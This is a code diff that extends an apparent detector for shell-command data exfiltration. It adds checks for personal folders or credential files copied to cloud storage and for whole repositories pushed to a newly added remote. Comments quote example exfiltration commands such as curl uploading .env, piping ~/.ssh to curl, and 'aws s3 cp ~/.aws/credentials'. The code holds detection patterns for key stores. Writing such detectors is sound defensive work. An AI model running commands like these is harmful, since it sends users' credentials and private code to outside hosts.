@@ -1,4 +1,6 @@
 import type { DetectorMatch } from '../../detector.js';
+import { resolvePath } from '../args/path-shape.js';
+import { CREDENTIAL_PATHS, HARMLESS_ENV, matchSensitive } from '../args/sensitive-paths.js';
 import { MAX_MATCHES } from './find-phrases.js';
 import { matchesIn } from './regex-matches.js';
 import { SENSITIVE_PATH } from './sensitive-data.js';
@@ -6,8 +8,10 @@ import { SENSITIVE_PATH } from './sensitive-data.js';
 /**
  * Shell commands that send data out: a network client in the same command line as a credential
  * file (`curl --data-binary @.env https://...`, `tar c ~/.ssh | curl -T - ...`), an environment
- * dump piped to one, a DNS lookup whose host name carries data (`dig $(whoami).x.example`), or a
- * browser script that reads cookies or storage and makes a request.
+ * dump piped to one, a DNS lookup whose host name carries data (`dig $(whoami).x.example`), a
+ * browser script that reads cookies or storage and makes a request, a credential file or home
+ * directory copied to cloud storage (`aws s3 cp ~/.aws/credentials s3://...`, `rclone copy ~ x:`),
+ * or a repository pushed whole to a remote added in the same line.
  */
 
 /** Where a command starts: line start, after a pipe or separator, inside `$(`, after sudo or VAR=value. */
@@ -30,6 +34,70 @@ const DNS_TOOL_ANY_CASE = new RegExp(DNS_TOOL.source, 'i');
 /** A command line is at most this long; longer values are scripts, read line by line. */
 const MAX_LINE = 4000;
 
+/**
+ * Cloud storage copies: the command, and how its destination is written. The source is what
+ * stands before the first remote; `az storage ... upload` names no remote, so any word counts.
+ * Every command holds a literal of COMMAND_UPLOAD_TRIGGERS (exfiltration.ts): `s3://`, `gs://`,
+ * `az storage`, the whole words `rclone` and `azcopy`.
+ */
+const CLOUD_COPIES: readonly { readonly command: RegExp; readonly remote: RegExp | null }[] = [
+  { command: /\baws\s+(?:\S+\s+){0,6}?s3\s+(?:cp|sync|mv)\s/, remote: /^s3:\/\//i },
+  {
+    command: /\b(?:gsutil\s+(?:-\S+\s+)*(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync|mv))\s/,
+    remote: /^gs:\/\//i,
+  },
+  // A remote is `name:path` (`:backend:path` on the fly); one letter before `:` is a Windows drive.
+  { command: /\brclone\s+(?:-\S+\s+)*(?:copy|copyto|sync|move|moveto)\s/, remote: /^:?[\w][\w.-]+:/ },
+  { command: /\bazcopy\s+(?:copy|cp|sync)\s/, remote: /^https:\/\//i },
+  { command: /\baz storage\s+(?:blob|file)\s+(?:upload|upload-batch)\s/, remote: null },
+];
+/** Sources a copy to cloud storage should never take: a home directory, its personal folders, key stores. */
+const PERSONAL_SOURCE =
+  /^(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\/home\/[\w.-]+|\/Users\/[\w.-]+|\/root)(?:[/\\](?:Documents|Desktop|Downloads|Pictures|Library|Mail|\.ssh|\.aws|\.gnupg|\.kube|\.config|\.docker|\.password-store))?[/\\]?$|\.kdbx$/i;
+const CLOUD_GATE = /s3:\/\/|gs:\/\/|\brclone\b|\bazcopy\b|az storage/i;
+
+function sensitiveSource(word: string): boolean {
+  if (PERSONAL_SOURCE.test(word)) return true;
+  const { path, rooted } = resolvePath(word);
+  return matchSensitive(CREDENTIAL_PATHS, path, rooted) !== null && !HARMLESS_ENV.test(path);
+}
+
+/** The source a cloud copy in `pipeline` uploads, when it is personal or a credential (`-` reads what is piped in). */
+function cloudUploadSource(pipeline: string): string | null {
+  for (const { command, remote } of CLOUD_COPIES) {
+    const m = command.exec(pipeline);
+    if (!m) continue;
+    const words = pipeline.slice(m.index + m[0].length).split(/\s+/);
+    const end = remote ? words.findIndex((word) => remote.test(word.replace(/^["']/, ''))) : words.length;
+    if (end < 0) continue;
+    const sources = words.slice(0, end).map((word) => word.replace(/^["']|["']$/g, ''));
+    if (sources.includes('-')) sources.push(...pipeline.slice(0, m.index).split(/\s+/));
+    const source = sources.find((word) => word !== '' && !word.startsWith('-') && sensitiveSource(word));
+    if (source) return source;
+  }
+  return null;
+}
+
+/**
+ * A remote added and the whole repository (`--all`, `--mirror`) pushed to it in one line, or
+ * pushed whole to a URL: every branch leaves for a place the project never pushed to.
+ */
+const REMOTE_ADD = /\bgit\s+(?:-C\s+\S+\s+)?remote\s+add\s+(?:-\S+\s+)*([\w.-]+)\s/g;
+const PUSH_ALL = /\bgit\s+(?:-C\s+\S+\s+)?push\s+([^;&|\n]*)/g;
+
+function pushesEverything(line: string): boolean {
+  const added = new Set<string>();
+  for (const m of matchesIn(REMOTE_ADD, line)) added.add(m[1] ?? '');
+  for (const m of matchesIn(PUSH_ALL, line)) {
+    const words = (m[1] ?? '').split(/\s+/);
+    if (!words.includes('--all') && !words.includes('--mirror')) continue;
+    const target = words.find((word) => word !== '' && !word.startsWith('-'));
+    if (target && (added.has(target) || /^(?:https?|ssh|git):\/\/|^[\w.-]+@[\w.-]+:/.test(target)))
+      return true;
+  }
+  return false;
+}
+
 /** The host name carries data: command output substituted into it, or a long encoded label. */
 function hostCarriesData(host: string): boolean {
   if (/\$\(|`[^`]+`|\$\{?[A-Za-z_]/.test(host)) return true;
@@ -49,6 +117,23 @@ interface TextSigns {
   readonly sender: boolean;
   readonly dns: boolean;
   readonly browser: boolean;
+  /** A cloud copy tool or address (CLOUD_GATE). */
+  readonly cloud: boolean;
+  /** `--all` or `--mirror`, which a whole-repository push needs. */
+  readonly pushAll: boolean;
+}
+
+/** Copies of personal data to cloud storage, and whole-repository pushes to a new remote. */
+function storageMatches(line: string, span: DetectorMatch, out: DetectorMatch[], signs: TextSigns): void {
+  for (const pipeline of signs.cloud ? line.split(/&&|\|\||;/) : []) {
+    const source = cloudUploadSource(pipeline);
+    if (!source) continue;
+    out.push({ ...span, detail: `${source} copied to cloud storage` });
+    return;
+  }
+  if (signs.pushAll && pushesEverything(line)) {
+    out.push({ ...span, detail: 'whole repository pushed to a new remote' });
+  }
 }
 
 function lineMatches(line: string, offset: number, out: DetectorMatch[], signs: TextSigns): void {
@@ -68,6 +153,7 @@ function lineMatches(line: string, offset: number, out: DetectorMatch[], signs: 
   if (signs.browser && BROWSER_STORAGE.test(line) && BROWSER_REQUEST.test(line) && /https?:\/\//.test(line)) {
     out.push({ ...span, detail: 'script sends browser cookies or storage' });
   }
+  storageMatches(line, span, out, signs);
   if (!signs.dns) return;
   for (const m of matchesIn(DNS_LOOKUP, line)) {
     if (hostCarriesData(m[1] ?? '')) out.push({ ...span, detail: 'DNS lookup with data in the host name' });
@@ -79,11 +165,15 @@ export function findCommandExfiltration(text: string): DetectorMatch[] {
   const sender = SENDER.test(text);
   // The gate wants a lowercase lookup tool (DNS_TOOL); DNS_LOOKUP itself ignores case, so lines
   // skip it only when no lookup tool is named in any case.
-  if (!sender && !DNS_TOOL.test(text) && !BROWSER_STORAGE.test(text)) return [];
+  const cloud = CLOUD_GATE.test(text);
+  const pushAll = text.includes('--all') || text.includes('--mirror');
+  if (!sender && !cloud && !pushAll && !DNS_TOOL.test(text) && !BROWSER_STORAGE.test(text)) return [];
   const signs: TextSigns = {
     sender,
     dns: DNS_TOOL_ANY_CASE.test(text),
     browser: BROWSER_STORAGE.test(text),
+    cloud,
+    pushAll,
   };
   const out: DetectorMatch[] = [];
   let offset = 0;
